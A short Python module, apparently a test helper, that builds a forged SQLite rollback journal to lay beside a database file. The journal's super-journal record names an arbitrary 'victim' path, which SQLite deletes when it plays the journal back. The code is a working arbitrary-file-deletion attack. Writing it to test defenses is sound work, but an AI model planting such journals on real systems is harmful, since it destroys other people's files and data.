"""Journals of SQLite that a stranger may lay beside a file of ours."""

import os


def journal_that_names(file, victim):
    """Write the journal of a database that says it is one of several, with `victim` as their list.

    Played back, SQLite deletes the list: see "The Rollback Journal" in the description of its
    format.
    """
    magic = bytes.fromhex("d9d505f920a163d7")
    data = file.read_bytes() if file.exists() else b""
    page = int.from_bytes(data[16:18] or b"\x10\x00")
    sector, name = 512, os.fsencode(victim)
    numbers = (0, 0, len(data) // page, sector, page)
    head = magic + b"".join(number.to_bytes(4) for number in numbers)
    check = sum(byte if byte < 128 else byte - 256 for byte in name) & 0xFFFFFFFF
    record = (0x40000000 // page + 1).to_bytes(4) + name
    record += len(name).to_bytes(4) + check.to_bytes(4) + magic
    journal = file.with_name(f"{file.name}-journal")
    journal.write_bytes(head.ljust(sector, b"\0") + record)
    return journal
